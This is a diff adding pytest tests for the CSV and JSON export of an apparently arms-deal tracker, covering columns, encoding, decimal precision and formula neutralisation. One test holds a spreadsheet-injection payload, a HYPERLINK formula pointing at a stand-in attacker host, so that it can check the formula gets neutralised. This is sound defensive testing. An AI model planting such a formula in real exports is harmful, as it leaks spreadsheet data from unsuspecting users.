@@ -1,0 +1,114 @@
+"""Exports: documented columns, formula-safe CSV bytes, JSON with the same field names."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+from factories import deal_data
+from sqlalchemy import Engine
+
+from tracker.db import make_session_factory, transaction
+from tracker.exports import EXPORT_COLUMNS, export_bytes, neutralise
+from tracker.queries import DealFilters
+from tracker.services import create_deal
+
+REQUIRED_COLUMNS = [
+    "deal_id",
+    "buyer",
+    "buyer_iso3",
+    "seller",
+    "seller_iso3",
+    "platform",
+    "category",
+    "quantity",
+    "quantity_delivered",
+    "condition",
+    "value_amount",
+    "value_currency",
+    "value_year",
+    "status",
+    "order_date",
+    "sources",
+]
+
+
+def _csv_rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def test_columns_start_with_the_documented_dictionary() -> None:
+    assert list(EXPORT_COLUMNS[: len(REQUIRED_COLUMNS)]) == REQUIRED_COLUMNS
+
+
+def test_csv_is_utf8_with_bom_and_documented_header(seeded_sqlite: Engine) -> None:
+    with make_session_factory(seeded_sqlite)() as s:
+        data = export_bytes(s, DealFilters(), "csv")
+    assert data.startswith(b"\xef\xbb\xbf")
+    header = data.decode("utf-8-sig").splitlines()[0]
+    assert header.split(",") == list(EXPORT_COLUMNS)
+
+
+def test_formula_in_notes_is_neutralised_on_the_bytes(seeded_sqlite: Engine) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with transaction(seeded_sqlite) as s:
+        create_deal(session=s, deal_in=deal_data(notes=evil, programme="+1 programme"))
+    with make_session_factory(seeded_sqlite)() as s:
+        data = export_bytes(s, DealFilters(text="HYPERLINK"), "csv")
+    assert b"'=HYPERLINK(" in data
+    assert b',"=HYPERLINK(' not in data and b",=HYPERLINK(" not in data
+    row = _csv_rows(data)[0]
+    assert row["notes"] == "'" + evil
+    assert row["programme"] == "'+1 programme"
+    assert row["quantity"] == "8"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_dangerous_start_is_neutralised(start: str) -> None:
+    assert neutralise(f"{start}cmd") == f"'{start}cmd"
+
+
+def test_harmless_text_is_unchanged() -> None:
+    assert neutralise("F-16 Block 70 Viper") == "F-16 Block 70 Viper"
+
+
+def test_csv_parses_back_to_the_same_rows_as_json(seeded_sqlite: Engine) -> None:
+    with make_session_factory(seeded_sqlite)() as s:
+        as_csv = _csv_rows(export_bytes(s, DealFilters(buyers=("Turkey",)), "csv"))
+        as_json = json.loads(export_bytes(s, DealFilters(buyers=("Turkey",)), "json"))
+    assert len(as_csv) == len(as_json) == 7
+    for from_csv, from_json in zip(as_csv, as_json, strict=True):
+        assert set(from_csv) == set(from_json) == set(EXPORT_COLUMNS)
+        assert from_csv["deal_id"] == str(from_json["deal_id"])
+        assert from_csv["quantity"] == (
+            "" if from_json["quantity"] is None else str(from_json["quantity"])
+        )
+        assert from_csv["value_amount"] == (from_json["value_amount"] or "")
+
+
+def test_unknowns_export_as_empty_not_zero(seeded_sqlite: Engine) -> None:
+    with make_session_factory(seeded_sqlite)() as s:
+        rows = _csv_rows(export_bytes(s, DealFilters(platforms=("F-35",)), "csv"))
+        deals = json.loads(export_bytes(s, DealFilters(platforms=("F-35",)), "json"))
+    assert rows[0]["quantity"] == "" and deals[0]["quantity"] is None
+
+
+def test_money_keeps_its_decimal_digits(seeded_sqlite: Engine) -> None:
+    with transaction(seeded_sqlite) as s:
+        create_deal(
+            session=s,
+            deal_in=deal_data(
+                value_amount="1234567890123.45", value_currency="EUR", notes="precise"
+            ),
+        )
+    with make_session_factory(seeded_sqlite)() as s:
+        row = json.loads(export_bytes(s, DealFilters(text="precise"), "json"))[0]
+    assert (row["value_amount"], row["value_currency"]) == ("1234567890123.45", "EUR")
+
+
+def test_sources_column_names_the_articles(seeded_sqlite: Engine) -> None:
+    with make_session_factory(seeded_sqlite)() as s:
+        rows = _csv_rows(export_bytes(s, DealFilters(platforms=("S-400",)), "csv"))
+    assert "Press TV" in rows[0]["sources"] and "Natural News" in rows[0]["sources"]
